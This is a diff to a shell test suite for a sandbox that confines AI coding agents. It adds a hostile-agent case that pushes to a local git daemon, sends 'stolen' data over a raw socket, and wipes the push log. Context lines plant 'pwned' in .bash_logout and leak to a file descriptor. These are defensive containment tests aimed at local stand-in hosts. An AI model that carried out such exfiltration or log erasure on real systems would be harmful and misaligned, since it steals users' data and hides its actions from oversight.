@@ -12,7 +12,8 @@
 #   home       the user's keys (through a stowed link too), other tools' credentials, another
 #              repository's .env, the session's and the repository's sockets, variables whose names
 #              say nothing of their secrets, git's credentials: none reaches a read-only run;
-#   full       network "full": an upload through the proxy is recorded;
+#   full       network "full": an upload through the proxy is recorded; a push to a git daemon and a
+#              raw socket have no route (with network "host", the control, the push lands);
 #   cli-state  what the agent writes where claude and codex keep their state stays in the run's
 #              folder: the user's next session of the real CLIs runs none of it, and a provider
 #              planted in codex's config widens no later run of Sidecar's.
@@ -58,6 +59,12 @@ case $EVIL in
     echo pwned >>/proc/self/fd/7/.bash_logout 2>/dev/null
     echo LEAKED >&8 2>/dev/null ;;
   slow) exec sleep "$ESC_MARK.1" ;;
+  full-push) # network "full": a push to a git daemon, and a raw socket, then the push log emptied
+    env -u GIT_CONFIG_COUNT git push "git://127.0.0.3:$DAEMON_PORT/daemon.git" HEAD:refs/heads/evil 2>&1 | tail -1
+    python3 -c 'import socket, sys
+try: socket.create_connection(("127.0.0.2", int(sys.argv[1])), timeout=10).sendall(b"stolen"); print("RAW SENT")
+except Exception as e: print("raw:", type(e).__name__)' "$UPLOAD_PORT"
+    : >"$SIDECAR_RUN_DIR/push_attempts.log" 2>/dev/null ;;
   full) # network "full": an upload over https, through the proxy the variables name
     python3 -c 'import sys, urllib.request
 try: urllib.request.urlopen("https://127.0.0.2:%s/upload" % sys.argv[1], data=b"stolen", timeout=10)
@@ -98,7 +105,7 @@ echo "agent $EVIL: exit $?"
 SH
 chmod +x "$work/agent.sh"
 add_runners "    evil = { command = $(lua_list "$work/agent.sh") },"
-sandbox_allow env EVIL MAIN ESC_MARK PLANT PWNED UPLOAD_PORT OTHER_APP # the agent's orders, given by name
+sandbox_allow env EVIL MAIN ESC_MARK PLANT PWNED UPLOAD_PORT OTHER_APP DAEMON_PORT # the agent's orders, given by name
 sandbox_allow hide "$OTHER_APP" # see OTHER_APP above
 sed -i 's|^  worktree = {|  worktree = {\n    setup = "sh scripts/bootstrap.sh",|' .agent/config.lua
 grep -q 'setup = "sh scripts/bootstrap.sh"' .agent/config.lua || echo "  -- (no worktree table in the config)" >&2
@@ -259,6 +266,55 @@ if [ "$reached" = "127.0.0.2:$(cat "$work/upload.port")" ] && "$S" run show "$id
   hostile_case "full network: an upload over https is recorded" detected
 else
   hostile_case "full network: an upload over https is recorded" silent "recorded '$reached'; $(grep upload: ".agent/runs/$id/stdout.log")"
+fi
+
+# A push over git:// and a raw socket, which no proxy carries: no route out of "full"'s namespace.
+if command -v git-daemon >/dev/null || [ -x "$(git --exec-path)/git-daemon" ]; then
+  git init -q --bare "$work/daemon.git"
+  DAEMON_PORT=$((20000 + RANDOM % 20000))
+  git daemon --reuseaddr --listen=127.0.0.3 --port="$DAEMON_PORT" --base-path="$work" --export-all \
+    --enable=receive-pack "$work/daemon.git" >"$work/daemon.log" 2>&1 &
+  daemon=$!
+  poll 10 eval "git ls-remote git://127.0.0.3:$DAEMON_PORT/daemon.git >/dev/null 2>&1"
+  python3 -c 'import socket
+s = socket.socket(); s.bind(("127.0.0.2", 0)); s.listen()
+print(s.getsockname()[1], flush=True)
+while True:
+    c = s.accept()[0]; open("'"$work"'/raw.reached", "a").write("x"); c.close()' >"$work/raw.port" &
+  raw=$!
+  poll 10 test -s "$work/raw.port"
+  export DAEMON_PORT
+  for net in full host; do
+    rm -f "$work/raw.reached"
+    EVIL=full-push UPLOAD_PORT=$(cat "$work/raw.port") "$S" run T-0001 --runner evil --sandbox read-only \
+      --network "$net" >"$work/push.$net.out" 2>&1
+    id=$(run_ids "$work/push.$net.out" | head -n 1)
+    pushed=$(git --git-dir="$work/daemon.git" for-each-ref --format='%(refname)' refs/heads/evil)
+    if [ "$net" = host ]; then # the control: the same agent with the host's network is seen to push
+      eq "control: with network host the push lands and the raw socket is reached" "refs/heads/evil x" \
+        "$pushed $(cat "$work/raw.reached" 2>/dev/null | head -c 1)"
+      eq "run show says network host" 1 "$("$S" run show "$id" | grep -c 'Sandbox: *bwrap, network host')"
+    else
+      why=""
+      grep -q "agent full-push: exit" ".agent/runs/$id/stdout.log" 2>/dev/null || why="the agent did not run: $(head -3 "$work/push.$net.out")"
+      [ -z "$pushed" ] || why="the push landed: $pushed"
+      [ -e "$work/raw.reached" ] && why="${why:-a raw socket reached the host}"
+      if [ -z "$why" ]; then hostile_case "full network: a push over git:// and a raw socket" prevented
+      else hostile_case "full network: a push over git:// and a raw socket" silent "$why"; fi
+    fi
+  done
+  kill "$daemon" "$raw" 2>/dev/null
+  # A proxy of the user's own, given to the agent (isolation.env): "full" needs the host's network to
+  # reach it, and the run says so.
+  cp .agent/config.lua "$work/config.before-proxy"
+  sed -i 's/^    env = {/    env = { "HTTPS_PROXY",/' .agent/config.lua
+  HTTPS_PROXY=http://127.0.0.1:9 EVIL=none "$S" run T-0001 --runner evil --sandbox read-only --network full \
+    >"$work/users-proxy.out" 2>&1
+  cp "$work/config.before-proxy" .agent/config.lua
+  eq "full with the user's own proxy is the host's network, and run show says why" 1 \
+    "$("$S" run show "$(run_ids "$work/users-proxy.out" | head -n 1)" | grep -c "Sandbox: *bwrap, network host (the user's HTTPS_PROXY")"
+else
+  echo "SKIP: full network: a push over git:// (git-daemon is not installed)"
 fi
 
 # --- cli-state: what the agent writes where the CLI keeps its state -------------------------------
